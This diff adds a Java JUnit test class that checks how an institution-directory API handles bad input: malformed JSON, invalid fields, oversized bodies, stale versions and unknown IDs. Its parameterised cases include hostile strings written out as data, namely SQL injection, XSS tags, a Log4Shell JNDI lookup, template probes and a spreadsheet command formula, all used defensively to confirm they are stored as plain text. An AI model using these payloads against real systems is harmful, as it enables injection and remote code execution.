@@ -1,0 +1,211 @@
+package org.pregon.itest;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
+import java.util.HashMap;
+import java.util.Map;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.pregon.itest.system.Answer;
+import org.pregon.itest.system.Api;
+import org.pregon.itest.system.PregonSystem;
+
+/** Whatever is sent, the answer says in Spanish what to mend, and nothing is written by halves. */
+class BadInputTest {
+    private static final String PLACE = "directory/institutions";
+
+    @RegisterExtension
+    static final PregonSystem PREGON = PregonSystem.shared();
+
+    private static Api api;
+
+    @BeforeAll
+    static void signIn() {
+        api = PREGON.administrator();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"", "{", "{\"name\": }", "[1,2", "nada", "null", "{\"name\":\"a\"} sobra", "\u0000", "{'name':'x'}"})
+    void whatIsNoJsonIsRefusedAsSuch(String body) {
+        unchanged(() -> api.send("POST", PLACE, body).expectProblem(400, "malformed"));
+    }
+
+    @Test
+    void anotherShapeOfJsonIsRefused() {
+        unchanged(() -> {
+            api.send("POST", PLACE, "[]").expect(422);
+            api.send("POST", PLACE, "\"texto\"").expect(422);
+            api.send("POST", PLACE, "[".repeat(5_000) + "]".repeat(5_000)).expect(400);
+        });
+    }
+
+    @Test
+    void wrongTypesUnknownFieldsAndBrokenRulesAreNamedAllAtOnce() {
+        unchanged(() -> {
+            Answer answer = api.send("POST", PLACE, """
+                    {"name": "  ", "kind": "CIRCUS", "scope": 7, "ubigeo": "99", "email": "sin-arroba", "verifiedOn": "2026-02-31",
+                     "website": "javascript:alert(1)", "phone": "llámeme", "color": "azul", "active": "quizás"}""")
+                    .expectProblem(422, "invalid");
+
+            assertThat(answer.wrongFields()).containsExactlyInAnyOrder("name", "kind", "scope", "ubigeo", "email", "verifiedOn",
+                    "website", "phone", "color", "active");
+            assertThat(answer.json().path("errors")).allSatisfy(error -> assertThat(error.path("message").asText())
+                    .as(error.toString()).isNotBlank().doesNotContain("Exception", "must", "java."));
+        });
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"2026-02-31", "31/02/2026", "2026-13-01", "ayer", "2999-01-01"})
+    void aDateThatCannotBeIsNamed(String date) {
+        unchanged(() -> assertThat(create(Map.of("verifiedOn", date)).expectProblem(422, "invalid").wrongFields())
+                .containsExactly("verifiedOn"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"0", "99", "000101", "260101", "15010", "1501011", "15O101", "' OR 1=1 --"})
+    void anUbigeoThatCannotBeIsNamed(String ubigeo) {
+        unchanged(() -> assertThat(create(Map.of("ubigeo", ubigeo)).expectProblem(422, "invalid").wrongFields())
+                .containsExactly("ubigeo"));
+    }
+
+    @Test
+    void textsThatAreTooLongAreNamedNotCut() {
+        unchanged(() -> assertThat(create(Map.of("name", "a".repeat(201), "notes", "b".repeat(2001), "acronym", "c".repeat(31)))
+                .expectProblem(422, "invalid").wrongFields()).containsExactlyInAnyOrder("name", "notes", "acronym"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "'; DROP TABLE directory_institution; --",
+        "\" OR \"\"=\"",
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "${jndi:ldap://x.example/a}",
+        "{{7*7}} #{1} %s %n",
+        "=cmd|' /C calc'!A0",
+        "Ñuñoa «ó» 漢字 🏛 \u200d e\u0301",
+        "\\u0041 \\n \\' \\\\"
+    })
+    void sqlHtmlAndOtherTricksAreJustText(String trick) {
+        String name = trick + " " + System.nanoTime();
+
+        Answer created = create(Map.of("name", name, "acronym", cut(trick, 30), "address", trick, "notes", trick)).expect(201);
+
+        JsonNode read = api.get(PLACE + "/" + created.id()).expect(200).json();
+        assertThat(read.path("name").asText()).isEqualTo(name);
+        assertThat(read.path("acronym").asText()).isEqualTo(cut(trick, 30));
+        assertThat(read.path("address").asText()).isEqualTo(trick);
+        assertThat(read.path("notes").asText()).isEqualTo(trick);
+        assertThat(api.get(PLACE + "?q=" + encode(trick)).expect(200).header("Content-Type")).startsWith("application/json");
+        assertThat(api.get(PLACE + "/count").json().path("count").asInt()).isPositive();
+    }
+
+    @Test
+    void aControlCharacterDoesNotBreakTheDatabase() {
+        Answer answer = create(Map.of("name", "con nulo \u0000 dentro"));
+
+        assertThat(answer.status()).as(answer.toString()).isIn(201, 422);
+    }
+
+    @Test
+    void aBodyOfTenMegabytesIsRefusedBeforeItIsRead() {
+        byte[] huge = new byte[10_000_000];
+        Arrays.fill(huge, (byte) ' ');
+
+        unchanged(() -> {
+            api.send("POST", PLACE, huge).expectProblem(413, "too-large");
+            api.send("POST", "session", huge).expect(413);
+        });
+    }
+
+    @Test
+    void anotherFormatIsRefused() {
+        unchanged(() -> api.send("POST", PLACE, "<xml/>", "Content-Type", "application/xml").expectProblem(415, "unsupported"));
+    }
+
+    @Test
+    void theSameInstitutionTwiceIsRefusedWithTheReason() {
+        String name = "Colegio Mariscal Cáceres " + System.nanoTime();
+        create(Map.of("name", name)).expect(201);
+
+        Answer twin = create(Map.of("name", name.toUpperCase(java.util.Locale.ROOT).replace("Á", "A")));
+
+        assertThat(twin.status()).as(twin.toString()).isIn(409, 422);
+        assertThat(twin.text()).contains("Ya");
+    }
+
+    @Test
+    void aStaleVersionChangesNothingAndAMissingOneIsAskedFor() {
+        String name = "Instituto " + System.nanoTime();
+        Answer first = create(Map.of("name", name)).expect(201);
+        String place = PLACE + "/" + first.id();
+        Map<String, Object> changed = form(Map.of("name", name, "notes", "segunda"));
+        api.put(place, changed, "If-Match", first.etag()).expect(200);
+
+        api.put(place, form(Map.of("name", name, "notes", "tercera")), "If-Match", first.etag()).expectProblem(412, "stale");
+        api.put(place, form(Map.of("name", name, "notes", "cuarta"))).expectProblem(428, "version-required");
+        api.put(place, form(Map.of("name", name, "notes", "quinta")), "If-Match", "\"x\"").expectProblem(422, "invalid");
+
+        assertThat(api.get(place).json().path("notes").asText()).isEqualTo("segunda");
+        assertThat(api.get(place + "/history").json().path("items")).hasSize(2);
+    }
+
+    @ParameterizedTest
+    @CsvSource({"sort=password,sort", "sort=name;DROP,sort", "limit=0,limit", "limit=201,limit", "limit=-5,limit", "limit=mil,limit",
+        "after=basura,after", "after=%00,after", "kind=CIRCUS,kind", "scope=x,scope", "ubigeo=1,ubigeo", "unverifiedSince=31/02/2026,unverifiedSince"})
+    void aQueryOutsideTheListIsNamed(String query, String field) {
+        assertThat(api.get(PLACE + "?" + query).expectProblem(422, "invalid").wrongFields()).containsExactly(field);
+    }
+
+    @Test
+    void aCursorBelongsToItsOrder() {
+        for (int i = 0; i < 2; i++) {
+            create(Map.of("name", "Página " + System.nanoTime())).expect(201);
+        }
+        String next = api.get(PLACE + "?limit=1").expect(200).json().path("next").asText();
+
+        api.get(PLACE + "?limit=1&after=" + next).expect(200);
+        api.get(PLACE + "?limit=1&sort=verified&after=" + next).expectProblem(422, "invalid");
+    }
+
+    @Test
+    void whatIsNotThereIsNotFound() {
+        api.get(PLACE + "/999999999").expectProblem(404, "not-found");
+        api.get(PLACE + "/99999999999999999999999").expectProblem(404, "not-found");
+        api.get(PLACE + "/abc").expectProblem(404, "not-found");
+        api.put(PLACE + "/999999999", form(Map.of("name", "Nadie")), "If-Match", "\"1\"").expectProblem(404, "not-found");
+        api.get("directory/imports/999999999").expectProblem(404, "not-found");
+    }
+
+    private static Answer create(Map<String, Object> fields) {
+        return api.post(PLACE, form(fields));
+    }
+
+    private static Map<String, Object> form(Map<String, Object> fields) {
+        Map<String, Object> all = new HashMap<>(Map.of("name", "Prueba " + System.nanoTime(), "kind", "OTHER", "scope", "NATIONAL"));
+        all.putAll(fields);
+        return all;
+    }
+
+    private static void unchanged(Runnable attempt) {
+        String before = api.get(PLACE + "/count?active=all").expect(200).text();
+        attempt.run();
+        assertThat(api.get(PLACE + "/count?active=all").expect(200).text()).isEqualTo(before);
+    }
+
+    private static String cut(String text, int longest) {
+        return text.length() <= longest ? text : text.substring(0, longest).strip();
+    }
+
+    private static String encode(String text) {
+        return URLEncoder.encode(text, StandardCharsets.UTF_8);
+    }
+}
